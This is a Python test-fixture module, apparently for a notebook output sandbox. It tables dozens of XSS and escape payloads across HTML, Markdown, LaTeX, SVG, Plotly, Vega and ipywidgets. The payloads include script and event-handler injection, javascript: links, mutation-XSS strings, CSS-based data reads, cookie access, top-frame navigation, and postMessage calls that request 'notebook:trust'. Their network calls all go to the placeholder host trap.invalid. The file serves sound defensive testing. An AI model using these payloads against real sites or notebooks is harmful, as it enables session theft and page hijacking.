"""What a cell may print to get at its reader: a table of payloads. Each would leave its name in the page, leave the page,
lie over it, or fetch something from `TRAP`, if it ran there. Data only."""

from __future__ import annotations

TRAP = "http://trap.invalid"  # stands for the address of the server that must never be asked

HTML, MARKDOWN, LATEX, SVG = "text/html", "text/markdown", "text/latex", "image/svg+xml"
PLOTLY, VEGA = "application/vnd.plotly.v1+json", "application/vnd.vegalite.v5+json"


def act(name: str) -> str:
    """JavaScript that leaves a name wherever it can reach, and asks the trap. It has no double quotes."""
    reach = "".join(f"try{{{window}.spoken='{name}'}}catch(e){{}};" for window in ("parent", "top", "opener"))
    return f"{reach}window.spoken='{name}';new Image().src='{TRAP}/{name}'"


def _script(name: str, more: str = "") -> str:
    return f"<script>{act(name)};{more}</script><b>{name}</b>"


def _attribute(name: str, tag: str) -> str:
    return tag.replace("ACT", act(name))


# They run, in their frame: the control that the payloads are alive.
RUNS: dict[str, str] = {
    "script": _script("script"),
    "img-onerror": _attribute("img-onerror", '<img src="x:" onerror="ACT">'),
    "module": f'<script type="module">{act("module")}</script>',
    "timer": _script("timer", "setInterval(()=>{try{top.spoken='timer'}catch(e){}},5)"),
    "top-navigation": _script("top-navigation", f"try{{top.location='{TRAP}/top'}}catch(e){{}}"),
    "top-replace": _script("top-replace", f"try{{top.location.replace('{TRAP}/replace')}}catch(e){{}}"),
    "popup": _script("popup", f"window.open('{TRAP}/popup')"),
    "prompts": _script("prompts", "alert(1);confirm(2);prompt(3);print()"),
    "post-message": _script(
        "post-message", "parent.postMessage({type:'save',height:1e9,command:'notebook:trust'},'*')"
    ),
    "storage": _script("storage", "try{top.spoken=document.cookie+localStorage.length}catch(e){}"),
    "document": _script("document", "try{parent.document.body.innerHTML='gone'}catch(e){}"),
    "fetch": _script("fetch", f"fetch('{TRAP}/fetch').catch(()=>0);navigator.sendBeacon('{TRAP}/beacon')"),
    "same-site": _script(
        "same-site", "fetch('/services/greenroom/api/v1/sessions').then(()=>fetch('/x')).catch(()=>0)"
    ),
    "sockets": _script("sockets", f"try{{new WebSocket('{TRAP}/ws'.replace('http','ws'))}}catch(e){{}}"),
    "stream": _script("stream", f"try{{new EventSource('{TRAP}/stream')}}catch(e){{}}"),
    "import": _script("import", f"import('{TRAP}/import').catch(()=>0)"),
    "worker": _script("worker", f"try{{new Worker('{TRAP}/worker')}}catch(e){{}}"),
    "peer": _script("peer", "window.peer=typeof RTCPeerConnection"),
    "nested": _script("nested") + f'<iframe srcdoc="<script>{act("nested-in")}</script>"></iframe>',
    "leaves": _script("leaves", f"try{{history.pushState(1,'','/away')}}catch(e){{}};open('{TRAP}/self','_top')"),
    "form-submit": f'<form id="g" action="{TRAP}/form" method="post" target="_top"></form>'
    + _script("form-submit", "document.getElementById('g').submit()"),
    "flood": _script("flood", "for(let i=0;i<2000;i++)parent.postMessage(i,'*')"),
    "tall": '<div style="height:9999999px"></div>' + _script("tall"),
}

# In a frame or in the page, they reach nothing.
REST: list[tuple[str, str, str]] = [
    *(
        (name, HTML, _attribute(name, tag))
        for name, tag in {
            "focus": "<input id=f><script>ACT;setInterval(()=>document.getElementById('f').focus(),20)</script>",
            "svg-onload": '<svg onload="ACT"></svg>',
            "svg-script": "<svg><script>ACT</script></svg>",
            "svg-animate": '<svg><a><animate attributeName="href" values="javascript:ACT"/><text y="9">t</text></a></svg>',
            "javascript-link": '<a href="javascript:ACT">link</a>',
            "javascript-entity": '<a href="java&#x09;script:ACT">link</a>',
            "javascript-case": '<a href=" JaVaScRiPt:ACT">link</a>',
            "data-link": '<a href="data:text/html,<script>ACT</script>">link</a>',
            "vbscript-area": '<map name="m"><area href="javascript:ACT" shape="default"></map><img usemap="#m">',
            "meta-refresh": f'<meta http-equiv="refresh" content="0;url={TRAP}/refresh">',
            "meta-policy": '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'">',
            "base": f'<base href="{TRAP}/"><img src="base">',
            "form-action": f'<form action="{TRAP}/action"><button>go</button></form>',
            "form-javascript": '<form action="javascript:ACT"><button>go</button></form>',
            "formaction": '<button formaction="javascript:ACT">go</button><input type="submit" formaction="javascript:ACT">',
            "overlay": '<div class="jp-Dialog" style="position:fixed;inset:0;z-index:99999;background:red">over</div>',
            "overlay-negative": '<div style="margin:-900px;padding:2000px;background:red">over</div>',
            "style-hides": "<style>body, .gr-header { display: none !important }</style><p>styled</p>",
            "css-url": f"<style>p {{ background: url({TRAP}/css) }} @import url({TRAP}/import.css);</style><p>styled</p>",
            "css-read": f"<style>input[value^=a] {{ background: url({TRAP}/read) }}</style><input value='abc'>",
            "css-font": f"<style>@font-face {{ font-family: f; src: url({TRAP}/font) }} p {{ font: 9px f }}</style><p>f</p>",
            "css-inline": f'<div style="background-image:url({TRAP}/inline)">inline</div>',
            "css-expression": '<div style="width:expression(ACT);behavior:url(#x)">e</div>',
            "image-from-elsewhere": f'<img src="{TRAP}/image"><img srcset="{TRAP}/set 1x">',
            "link-prefetch": f'<link rel="prefetch" href="{TRAP}/pre"><link rel="stylesheet" href="{TRAP}/sheet">',
            "iframe-src": f'<iframe src="{TRAP}/iframe"></iframe>',
            "iframe-srcdoc": '<iframe srcdoc="<script>ACT</script>"></iframe>',
            "iframe-javascript": '<iframe src="javascript:ACT"></iframe>',
            "iframe-data": '<iframe src="data:text/html,<script>ACT</script>"></iframe>',
            "iframe-ours": '<iframe src="/services/greenroom/"></iframe>',
            "object": '<object data="data:text/html,<script>ACT</script>"></object>',
            "embed": f'<embed src="{TRAP}/embed"><embed src="data:image/svg+xml,<svg/>">',
            "details": '<details open ontoggle="ACT">more</details>',
            "autofocus": '<input autofocus onfocus="ACT"><textarea autofocus onfocus="ACT"></textarea>',
            "media": f'<video src="{TRAP}/video" onerror="ACT"></video><audio src="{TRAP}/audio" autoplay></audio>',
            "marquee": '<marquee onstart="ACT">m</marquee>',
            "mutation-math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x: onerror=\"ACT\"&gt;'>",
            "mutation-noscript": "<noscript><p title='</noscript><img src=x: onerror=\"ACT\">'>",
            "mutation-template": "<template><script>ACT</script></template><svg></p><style><a id='</style><img src=x: onerror=ACT>'>",
            "clobber": '<form id="clobbered"><input name="attributes"></form><img name="clobbered" id="jupyter-config-data">',
            "command": '<button data-commandlinker-command="notebook:trust" data-commandlinker-args="{}">trust</button>',
            "opener": f'<a href="{TRAP}/opener" target="_blank" rel="opener">out</a>',
            "download": '<a download="x.html" href="data:text/html,<script>ACT</script>">save</a>',
            "xlink": '<svg><a xlink:href="javascript:ACT"><text y="9">x</text></a><use href="data:image/svg+xml,x#y"/></svg>',
        }.items()
    ),
    *(
        (f"markdown-{name}", MARKDOWN, _attribute(f"markdown-{name}", text))
        for name, text in {
            "html": "**bold** <script>ACT</script><img src='x:' onerror=\"ACT\">",
            "link": "[one](javascript:window.spoken=1) [two](data:text/html,x) <javascript:window.spoken=1>",
            "image": f"![picture]({TRAP}/markdown)",
            "style": "<style>body { display: none !important }</style><div style='position:fixed;inset:0'>over</div>",
            "reference": "[one][x]\n\n[x]: javascript:window.spoken=1",
            "math": "$\\href{javascript:window.spoken=1}{\\text{two}}$",
            "mermaid": '```mermaid\ngraph TD; A-->B; click A "javascript:window.spoken=1"\n```',
        }.items()
    ),
    *(
        (f"latex-{name}", LATEX, text)
        for name, text in {
            "href": "$\\href{javascript:window.spoken='latex'}{\\text{link}}$",
            "data": "$\\href{data:text/html,<script>top.spoken=1</script>}{\\text{link}}$",
            "unicode": "$\\unicode[font-family:x;background:url(" + TRAP + "/unicode)]{65}$",
            "style": "$\\style{position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:9}{\\text{over}}$",
            "class": "$\\class{jp-Dialog}{\\cssId{clobbered}{x}}$",
            "require": "$\\require{html}\\require{" + TRAP + "/require}x$",
            "image": "$\\includegraphics{" + TRAP + "/latex}$",
            "macros": "$\\def\\x{\\x\\x}\\x$",
            "html": "$\\text{<img src=x: onerror=window.spoken=1>}$",
        }.items()
    ),
    *(
        (
            f"svg-{name}",
            SVG,
            f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" {_attribute(f"svg-{name}", body)}</svg>',
        )
        for name, body in {
            "onload-picture": 'onload="ACT">',
            "script-picture": "><script>ACT</script>",
            "foreign": '><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x:" onerror="ACT"/></foreignObject>',
            "image": f'><image href="{TRAP}/svg" width="9" height="9"/>',
            "sheet": f"><style>@import url({TRAP}/svg.css);</style>",
        }.items()
    ),
    ("javascript", "application/javascript", act("javascript")),
    ("javascript-text", "text/javascript", act("javascript-text")),
    ("ecmascript", "application/ecmascript", act("ecmascript")),
    ("pdf", "application/pdf", "JVBERi0xLjQK"),
    ("unknown", "application/x-unheard-of", act("unknown")),
]

PLOTS: list[tuple[str, str, object]] = [
    (
        "plotly",
        PLOTLY,
        {
            "data": [{"x": [1, 2], "y": [3, 4], "text": f'<a href="javascript:{act("plotly")}">a</a>'}],
            "layout": {
                "title": {"text": f"<img src=x: onerror={act('plotly')}>"},
                "images": [{"source": f"{TRAP}/plotly", "x": 0, "y": 1, "sizex": 1, "sizey": 1}],
            },
        },
    ),
    (
        "vega",
        VEGA,
        {
            "data": {"url": f"{TRAP}/vega.json"},
            "mark": "bar",
            "encoding": {"x": {"field": "a"}, "href": {"value": "javascript:window.spoken=1"}},
        },
    ),
    (
        "vega-expression",
        VEGA,
        {
            "data": {"values": [{"a": 1}]},
            "transform": [{"calculate": "constructor.constructor('top.spoken=1')()", "as": "b"}],
            "mark": "point",
            "encoding": {"x": {"field": "a", "type": "quantitative"}},
        },
    ),
]

_HOSTILE = (
    f"""<img src="x:" onerror="{act("widget")}"><script>{act("widget")}</script>"""
    f"""<a href="javascript:window.spoken=1">a</a><meta http-equiv="refresh" content="0;url={TRAP}/widget">"""
    """<iframe srcdoc="<script>top.spoken=1</script>"></iframe><style>body { display: none !important }</style>"""
    "<b>shown-widget</b>"
)
_MODULE = f"export default {{ render() {{ {act('anywidget')} }} }}"

WIDGETS = f"""
import ipywidgets as w, traitlets
def other(module, **more):
    named = dict(_model_name='AnyModel', _view_name='AnyView', _model_module=module, _view_module=module)
    named |= dict(_model_module_version='~0.9.*', _view_module_version='~0.9.*') | more
    traits = {{name: traitlets.Unicode(value).tag(sync=True) for name, value in named.items()}}
    return type('Other', (w.DOMWidget,), traits)()
hostile = {_HOSTILE!r}
inside = w.HTML('x')
display(w.HTML(hostile, description=hostile, style=dict(description_allow_html=True)), w.HTMLMath(hostile), inside)
inside.value = hostile
display(w.Label(hostile), w.Button(description=hostile, tooltip=hostile), w.Dropdown(options=[hostile]))
display(w.Checkbox(description=hostile, style=dict(description_allow_html=True)), w.Text(hostile, placeholder=hostile))
display(w.ToggleButtons(options=[hostile, 'b']), w.Accordion([w.Label('x')], titles=[hostile]))
display(w.Tab([w.Label('x')], titles=[hostile]), w.Select(options=[hostile]), w.RadioButtons(options=[hostile]))
display(w.Image(value=b'<svg xmlns="http://www.w3.org/2000/svg" onload="top.spoken=1"/>', format='svg+xml'))
over = w.HTML('over', layout=dict(width='9999px', height='200px', margin='-900px'))
over.add_class('jp-Dialog')
display(over)
display(other('anywidget', _esm={_MODULE!r}, _css='@import url({TRAP}/any.css)'))
display(other('anywidget', _esm='{TRAP}/esm.js'), other('a-module-of-its-own'), other('{TRAP}/module.js'))
display(other('@jupyter-widgets/base', _model_name='constructor', _view_name='__proto__'))
out = w.Output()
with out: display({{'text/html': hostile}}, raw=True)
display(out)
"""
